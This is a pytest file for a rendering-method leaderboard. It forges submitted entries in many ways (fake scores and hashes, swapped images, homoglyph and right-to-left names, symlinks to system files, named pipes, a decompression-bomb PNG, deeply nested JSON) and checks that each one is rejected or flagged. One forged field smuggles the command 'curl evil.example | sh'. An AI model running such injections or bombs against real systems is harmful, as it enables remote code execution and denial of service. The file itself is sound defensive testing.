"""Entries that lie: each kind is left out with a message, or stands apart as claimed.

Honest entries beside it stay verified, and the site is built.
"""

import json
import os
import shutil
import signal
import struct

import cv2
import numpy as np
import pytest
from command_line import succeed

from chronoscene.harness.files.predictions import (
    encode_png,
    load_image,
    read_manifest,
    write_manifest,
)
from chronoscene.harness.files.records import ViewScore
from chronoscene.harness.score.scoring import aggregate, rescore
from chronoscene.io.staging import sha256_of
from chronoscene.metrics.registry import make_scorers
from leaderboard.board import NO_ENTRY, NO_IMAGES, NO_METHOD, read_board
from leaderboard.scenes import fixed_scenes
from leaderboard.submit import submit

REGISTERED = fixed_scenes()["ranking-street"]


class Forger:
    """An entry of two seeds that can be changed in every part; views are ``0/0.png`` and so on."""

    def __init__(self, path):
        self.path, self.folder = path, path.with_suffix("")
        self.document = json.loads(path.read_text())
        self.runs = self.document["runs"]

    def set(self, **values):
        """Change fields of all runs."""
        for run in self.runs:
            run["record"] |= values

    def score(self, change=lambda value: value, metric="psnr"):
        """Change all values of a metric, and the means with them."""
        for run in self.runs:
            for view in run["views"]:
                view["values"][metric] = change(view["values"].get(metric))
            rows = [
                ViewScore(v["view"], v["period"], v["period"], "all", name, value)
                for v in run["views"]
                for name, value in v["values"].items()
            ]
            run["record"]["aggregates"], run["record"]["periods"] = aggregate(rows)

    def drop(self, *names):
        """Leave views out, and adapt the means."""
        for run in self.runs:
            run["views"] = [view for view in run["views"] if view["view"] not in names]
        self.score()

    def move(self, name, period):
        """Count a view to another period."""
        for run in self.runs:
            (view,) = [view for view in run["views"] if view["view"] == name]
            view["period"] = period
        self.score()

    def hashes(self, digest):
        """Change the hashes of all predictions."""
        for run in self.runs:
            for view in run["views"]:
                view["sha256"] = digest(run["record"]["seed"], view["view"])

    def no_images(self):
        shutil.rmtree(self.folder)

    def image(self, name="0/0.png", seed=0):
        """File of a prediction."""
        return self.folder / f"seed{seed}" / f"{name}.png"

    def manifests(self, change):
        """Change the images in the manifests."""
        for run in self.runs:
            place = self.folder / f"seed{run['record']['seed']}"
            manifest = read_manifest(place)
            images = tuple(filter(None, map(change, manifest.images)))
            write_manifest(place, manifest.model_copy(update={"images": images}))

    def adopt(self):
        """Make manifests and entry agree with the images that are there."""
        for run in self.runs:
            place = self.folder / f"seed{run['record']['seed']}"
            for view in run["views"]:
                view["sha256"] = sha256_of(place / f"{view['view']}.png")
        self.manifests(
            lambda image: image.model_copy(
                update={
                    "sha256": next(
                        v["sha256"]
                        for run in self.runs
                        for v in run["views"]
                        if v["view"] == image.view and self.holds(run, image)
                    )
                }
            )
        )

    def holds(self, run, image):
        place = self.folder / f"seed{run['record']['seed']}"
        return any(i == image for i in read_manifest(place).images)

    def write(self):
        self.path.write_text(json.dumps(self.document))


def fake_hash(seed, view):
    return format(hash((seed, view)) % 16**16, "016x") * 4


def one_as_many(forger, count):
    first = forger.runs[0]
    forger.runs[:] = [{**first, "record": first["record"] | {"seed": s}} for s in range(count)]


def replace_image(forger, data):
    """Put other bytes in the place of an image, with hashes that agree."""
    for seed in (0, 1):
        forger.image(seed=seed).write_bytes(data + bytes([seed]))
    forger.adopt()


def change_image(forger):
    """Change a prediction."""
    pixels = cv2.imread(str(forger.image()))
    forger.image().write_bytes(encode_png((pixels ^ 31)[..., ::-1]))


def photos_as_predictions(forger):
    for image in read_manifest(forger.truth).images:
        for seed in (0, 1):
            data = (forger.truth / image.file).read_bytes() + bytes([seed])
            forger.image(image.view, seed).write_bytes(data)
    forger.adopt()
    forger.score(lambda _: 1.0, "ssim")
    forger.score(lambda _: 99.0)


def outside(forger):
    """Make a prediction a link to a file elsewhere."""
    place = forger.path.parents[2] / "elsewhere.png"
    forger.image().rename(place)
    forger.image().symlink_to(place)


def linked_folder(forger):
    place = forger.folder.rename(forger.path.parents[2] / "elsewhere")
    forger.folder.symlink_to(place)


def bomb(_):
    """A PNG file that says it has 30,000 x 30,000 pixels."""
    header = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", 30_000, 30_000)
    return header + bytes([8, 2, 0, 0, 0]) + bytes(100)


def many_views(forger, count=150_000):
    one = json.dumps(forger.runs[0]["views"][0]) + ","
    text = json.dumps(forger.document).replace('"views": [', f'"views": [{one * count}', 1)
    forger.write = lambda: forger.path.write_text(text)


def in_place(make):
    """A forgery that puts something else in the place of the file of the entry."""

    def forge(forger):
        forger.write = lambda: None
        forger.path.unlink()
        make(forger.path)

    return forge


FORGERIES = {
    # Values
    "40 dB and hashes of zeros": (
        lambda f: (f.hashes(lambda *_: "0" * 64), f.score(lambda _: 40.0)),
        "have the same image of a view",
    ),
    "40 dB and invented hashes, without images": (
        lambda f: (f.hashes(fake_hash), f.score(lambda _: 40.0), f.no_images()),
        NO_IMAGES,
    ),
    "40 dB and invented hashes, with images": (
        lambda f: (f.hashes(fake_hash), f.score(lambda _: 40.0)),
        "other images than the entry lists",
    ),
    "one dB more than the true images have": (
        lambda f: f.score(lambda value: value + 1.0),
        "as its image has",
    ),
    "999 dB": (lambda f: f.score(lambda _: 999.0), "psnr that cannot be: 999"),
    "negative PSNR": (lambda f: f.score(lambda _: -1.0), "psnr that cannot be: -1"),
    "SSIM of 500": (lambda f: f.score(lambda _: 500.0, "ssim"), "ssim that cannot be: 500"),
    "negative LPIPS": (
        lambda f: f.score(lambda _: -0.5, "lpips_vgg"),
        "lpips_vgg that cannot be: -0.5",
    ),
    "infinite PSNR": (lambda f: f.score(lambda _: float("inf")), "cannot be: inf"),
    "means better than the views": (
        lambda f: f.runs[0]["record"]["aggregates"]["macro"].update(psnr=40.0),
        "the means are not those of the views",
    ),
    "photos as predictions": (
        photos_as_predictions,
        "expected a prediction of '0/0.png', found its photo",
    ),
    # Views, periods, seeds
    "the easiest views": (
        lambda f: f.drop("0/2.png", "1/2.png"),
        "other images than the entry lists",
    ),
    "the easiest views, images cut as well": (
        lambda f: (
            f.drop("0/2.png", "1/2.png"),
            f.manifests(lambda image: None if image.view in ("0/2.png", "1/2.png") else image),
        ),
        "expected one prediction per test view",
    ),
    "one metric of the easiest views": (
        lambda f: f.runs[0]["views"][0]["values"].pop("psnr"),
        "views with other metrics",
    ),
    "views in other periods": (lambda f: f.move("0/0.png", 1), "other images than the entry lists"),
    "views in other periods, manifest as well": (
        lambda f: (
            f.move("0/0.png", 1),
            f.manifests(
                lambda i: (
                    i.model_copy(update={"camera_period": 1, "rendered_period": 1})
                    if i.view == "0/0.png"
                    else i
                )
            ),
        ),
        "expected period 0 for the camera of '0/0.png', found period 1",
    ),
    "views of a ranking scene left out": (
        lambda f: f.set(
            scene="ranking-street",
            scene_hash=REGISTERED.scene_hash,
            split_hash=REGISTERED.split_hash,
        ),
        "other views or periods than the test views of ranking-street",
    ),
    "more periods than the scene": (
        lambda f: f.set(period_labels={str(i): str(i) for i in range(9)}),
        "other periods than the 2 of the scene",
    ),
    "one run as 20 seeds": (lambda f: one_as_many(f, 20), "have the same image of a view"),
    "one run as 300 seeds": (lambda f: one_as_many(f, 300), "at most 30 items"),
    "validation views": (lambda f: f.set(variant="validation=true"), "scores of validation views"),
    # Effort
    "ten hours with a budget of 90 s": (
        lambda f: f.set(variant="budget=90s", seconds=36_000.0),
        "36000.0 s of training with budget=90s",
    ),
    "a budget without seconds": (
        lambda f: f.set(variant="budget=90s", seconds=None),
        "None s of training with budget=90s",
    ),
    "a budget that is no time": (
        lambda f: f.set(variant="budget=x"),
        "s of training with budget=x",
    ),
    "preset fast with a million steps": (
        lambda f: f.set(iterations=10**6),
        "1000000 training steps with 1000 by preset and options",
    ),
    "100 iterations with a million steps": (
        lambda f: f.set(variant="iterations=100", iterations=10**6),
        "1000000 training steps with 100 by preset",
    ),
    "negative time": (lambda f: f.set(seconds=-1.0), "seconds is negative"),
    # Names
    "a scene of the paper with any hash": (
        lambda f: f.set(scene="Overstreet"),
        "scene Overstreet of the paper, whose hash is not in scenes.toml",
    ),
    "a scene spelled nearly like the paper's": (
        lambda f: f.set(scene="0VER street"),
        "scene Overstreet of the paper",
    ),
    "a ranking scene with other photos": (
        lambda f: f.set(scene="ranking-street"),
        "another name, photos or split than ranking-street has",
    ),
    "a ranking scene under another name": (
        lambda f: f.set(scene="easy", scene_hash=REGISTERED.scene_hash),
        "another name, photos or split than ranking-street has",
    ),
    "a scene in Cyrillic letters": (lambda f: f.set(scene="\u0443ard"), "scene is no plain name"),
    "a method that is not registered": (lambda f: f.set(method="chron0gs"), NO_METHOD),
    "a module as the method": (lambda f: f.set(method="evil:SPEC"), NO_METHOD),
    "title (published)": (lambda f: f.set(title="3DGS (published)"), "title is no plain name"),
    "title in Cyrillic letters": (
        lambda f: f.set(title="\u0421hron\u043eGS"),
        "title is no plain name",
    ),
    "title from right to left": (lambda f: f.set(title="\u202eSGonorhC"), "title is no plain name"),
    "preset verified": (lambda f: f.set(preset="verified"), "preset is no plain name"),
    "variant published": (lambda f: f.set(variant="source=published"), "variant is no list of"),
    "prose as the variant": (lambda f: f.set(variant="the best"), "variant is no list of options"),
    "a shell command as the variant": (
        lambda f: f.set(variant="a=1; curl evil.example | sh"),
        "variant is no list of options",
    ),
    "a protocol of its own": (lambda f: f.set(protocol="best"), "unknown protocol: 'best'"),
    "a protocol of another format": (
        lambda f: f.set(protocol="wat", max_width=1 << 16),
        "found protocol wat, which is for scenes in the format wat, and ",
    ),
    "a protocol with another width": (
        lambda f: f.set(protocol="wat"),
        "another strategy or width than protocol wat has",
    ),
    "a strategy of its own": (lambda f: f.set(strategy="best"), "unknown strategy: best"),
    "device from right to left": (lambda f: f.set(device="cpu \u202e(x)"), "control characters"),
    "markup": (lambda f: f.set(commit="<b>"), "a text with markup"),
    "it says that it is verified": (lambda f: f.document.update(verified=True), "Extra inputs"),
    # Files
    "an image changed": (change_image, "another file"),
    "an image changed, hashes as well": (
        lambda f: (change_image(f), f.adopt()),
        "as its image has",
    ),
    "an image of another size": (
        lambda f: replace_image(f, encode_png(np.zeros((6, 8, 3), np.uint8))),
        "an image of another size",
    ),
    "no PNG": (lambda f: replace_image(f, b"\xff\xd8\xff\xe0 JFIF"), "found no image"),
    "an image that fills the memory": (lambda f: replace_image(f, bomb(f)), "of another size"),
    "an image outside": (outside, "no such file"),
    "an image that is a pipe": (
        lambda f: (f.image().unlink(), os.mkfifo(f.image())),
        "no such file",
    ),
    "images that are a link": (linked_folder, "found a link"),
    "images of another scene": (
        lambda f: f.set(scene_hash="f" * 64),
        "its scene was not named by --verify",
    ),
    "no manifest": (lambda f: (f.folder / "seed0/manifest.json").unlink(), "no such file"),
    "150,000 views": (many_views, "more than 10000000 bytes"),
    "2,001 views": (lambda f: many_views(f, 2_001), "at most 2000 items"),
    "a link": (in_place(lambda path: path.symlink_to("/etc/hostname")), "found a link"),
    "a device": (in_place(lambda path: path.symlink_to("/dev/zero")), "found a link"),
    "a pipe": (in_place(os.mkfifo), "a pipe or device"),
    "a folder": (in_place(lambda path: path.mkdir()), "Is a directory"),
    "deep JSON": (in_place(lambda path: path.write_text("[" * 10**6)), "measured entry"),
}


@pytest.fixture(autouse=True)
def alarm():
    """Nothing here takes long, unless it waits for a pipe."""
    before = signal.signal(signal.SIGALRM, lambda *_: pytest.fail("still reading"))
    signal.alarm(60)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, before)


@pytest.fixture
def forger(honest, tmp_path):
    shutil.copytree(honest / "entries", tmp_path / "entries")
    (path,) = (tmp_path / "entries").glob("*/3dgs-*.json")
    forger = Forger(path)
    forger.truth = honest / "runs/ground_truth/yard"
    return forger


def test_there_are_many_kinds():
    assert len(FORGERIES) >= 30


def test_honest_entries_are_verified(honest):
    board = read_board(honest / "entries", [honest / "yard"])
    assert [standing.claimed for standing in board.standings] == ["", ""]
    assert not board.notices


@pytest.fixture
def place(forger):
    return forger.path.parents[1]


def test_the_site_is_built_whatever_lies_among_the_entries(honest, forger, place):
    forger.no_images()
    for name, text in {"nan": "NaN", "list": "[]", "many": "[" * 10_000}.items():
        (place / f"{name}.json").write_text(text)
    (place / "device.json").symlink_to("/dev/zero")
    (place / "loop.json").symlink_to("loop.json")
    (place / "loop").symlink_to(place)
    os.mkfifo(place / "pipe.json")
    site = place.with_name("site")
    done = succeed("leaderboard", place, "--verify", honest / "yard", "--out", site)
    assert done.stdout.startswith("measured entries: 2; verified: 1; claimed: 1;")
    assert f"claimed: 1: {NO_IMAGES}\n" in done.stdout
    assert done.stderr.count("left out: ") == 6
    text = (site / "scene/yard.html").read_text()
    verified, claimed = text.split('<tbody class="claimed">')
    assert "4DGS, tuned (joint, fast)" in verified and "3DGS (joint, fast)" in claimed


def test_the_verified_one_of_two_entries_of_the_same_runs_counts(honest, forger):
    forger.score(lambda _: 40.0)
    forger.path = forger.path.with_name("0.json")  # before the other one, without images
    forger.write()
    board = read_board(forger.path.parents[1], [honest / "yard"])
    assert [standing.claimed for standing in board.standings] == ["", ""]
    assert "0.json: expected" in board.notices[0] and "the same runs as" in board.notices[0]


def test_a_verified_entry_shows_what_the_board_computes(honest, forger):
    """Values of metrics that are not computed are left out; so are labels of periods."""
    forger.score(lambda value: value + 1e-4)
    forger.score(lambda _: 0.01, "lpips_vgg")
    forger.set(period_labels={"0": "best", "1": "worst"}, title="ChronoGS")
    forger.write()
    board = read_board(forger.path.parents[1], [honest / "yard"])
    (shown,) = [s for s in board.standings if s.entry.runs[0].record.method == "3dgs"]
    assert not shown.claimed
    for record, part in zip(shown.records, shown.entry.runs, strict=True):
        gain = part.record.aggregates["macro"]["psnr"] - record.aggregates["macro"]["psnr"]
        assert gain == pytest.approx(1e-4)
        assert "lpips_vgg" not in record.aggregates["macro"] or record.rows
        assert (record.title, record.period_labels) == ("3DGS", {"0": "0", "1": "1"})


def test_a_scene_without_entries_is_named(honest, forger, make_scene_folder):
    other = make_scene_folder(name="other")
    board = read_board(forger.path.parents[1], [honest / "yard", other])
    assert board.notices == [f"{other}: {NO_ENTRY}"]
    assert "no entry is of this scene" in NO_ENTRY and "chronoscene convert" in NO_ENTRY


def test_forged_truth_helps_nobody(honest, tmp_path):
    """Runs whose frozen photos were made from their predictions are consistent, but not true."""
    shutil.copytree(honest / "runs", tmp_path / "runs")
    truth, run = tmp_path / "runs/ground_truth/yard", tmp_path / "runs/yard/4dgs-joint-fast/seed0"
    manifest = read_manifest(truth)
    images = []
    for image in manifest.images:
        pixels = load_image(run / "predictions", image.model_copy(update=hash_of(run, image)))
        data = encode_png(pixels ^ 3)
        (truth / image.file).write_bytes(data)
        images.append(image.model_copy(update={"sha256": sha256_of(truth / image.file)}))
    write_manifest(truth, manifest.model_copy(update={"images": tuple(images)}))
    rescore(tmp_path / "runs", make_scorers(["psnr", "ssim"]))
    submit([run], tmp_path / "entries")
    board = read_board(tmp_path / "entries", [honest / "yard"])
    assert not board.standings and "as its image has" in board.notices[0]


def hash_of(run, image):
    (found,) = [i for i in read_manifest(run / "predictions").images if i.view == image.view]
    return {"sha256": found.sha256}


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="the system has no named pipes")
@pytest.mark.parametrize("kind", FORGERIES)
def test_a_forged_entry_is_left_out_or_stands_apart(honest, forger, kind):
    forge, reason = FORGERIES[kind]
    forge(forger)
    forger.write()
    board = read_board(forger.path.parents[1], [honest / "yard"])
    by_method = {standing.entry.runs[0].record.method: standing for standing in board.standings}
    assert not by_method.pop("4dgs").claimed
    if board.notices:
        (notice,) = board.notices
        assert not by_method and notice.startswith("left out: ") and reason in notice
        assert str(forger.path.with_suffix("")) in notice and notice.isprintable()
    else:
        (forged,) = by_method.values()
        assert forged.claimed == reason
